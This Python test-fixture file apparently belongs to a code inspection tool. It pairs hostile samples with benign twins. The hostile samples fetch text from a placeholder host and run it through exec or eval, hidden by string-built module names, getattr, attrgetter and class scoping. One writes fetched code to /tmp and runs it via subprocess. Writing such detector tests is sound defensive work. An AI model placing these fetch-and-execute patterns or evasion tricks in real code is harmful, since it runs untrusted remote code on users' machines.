"""Ways a value takes through Python and shell: for each a hostile sample, and the twin that takes another way."""

from inspection.rules.sample import Sample, py

_GET = "requests.get('https://a.invalid').text"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_code": {
        "in the body of a class": py(
            f"import requests\nclass Level:\n    if True:\n        t = {_GET}\n    exec(t)\n", line=5
        ),
        "an annotated member of a class": py(
            f"import requests\nclass Level:\n    text: str = {_GET}\n    def show(self): exec(self.text)\n", line=4
        ),
        "a class within a class": py(
            f"import requests\nclass Game:\n    class Level:\n        text = {_GET}\nexec(Game.Level.text)\n", line=5
        ),
        "a name from a template": py(f"import sys, requests\nsys.modules['%s%s' % ('buil', 'tins')].exec({_GET})\n"),
        "a name from a template of many places": py(
            f"import sys, requests\nsys.modules[('{{}}' * 2).format(*['buil', 'tins'])].exec({_GET})\n"
        ),
        "a name from a named place": py(
            f"import sys, requests\nsys.modules['%(a)stins' % {{'a': 'buil'}}].exec({_GET})\n"
        ),
        "by attrgetter": py(f"import operator, builtins, requests\noperator.attrgetter('exec')(builtins)({_GET})\n"),
        "the first of a list": py(f"import requests\nnext(iter([exec]))({_GET})\n"),
        "a method by getattr": py(f"import requests\ngetattr({{'a': eval}}, 'get')('a')({_GET})\n"),
    },
    "remote_command": {
        "written by getattr, then run": py(
            f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
            "subprocess.run([sys.executable, '/tmp/x.py'])\n"
        ),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_code": {
        "a name of a class body is no name outside": {
            "app.py": f"import requests\nclass Level:\n    t = {_GET}\nt = 'x = 1'\nexec(t)\n"
        },
        "a template that names something else": {
            "app.py": f"import sys, requests\nsys.modules['%s%s' % ('pri', 'nts')].show({_GET})\n"
        },
        "attrgetter of another member": {
            "app.py": f"import operator, builtins, requests\noperator.attrgetter('len')(builtins)({_GET})\n"
        },
        "the first of a list of something else": {"app.py": f"import requests\nnext(iter([len, exec]))({_GET})\n"},
    },
    "remote_command": {
        "written, and another run": {
            "app.py": f"import requests, subprocess, sys\ngetattr(open('/tmp/x.py', 'w'), 'write')({_GET})\n"
            "subprocess.run([sys.executable, '/tmp/y.py'])\n"
        },
    },
}
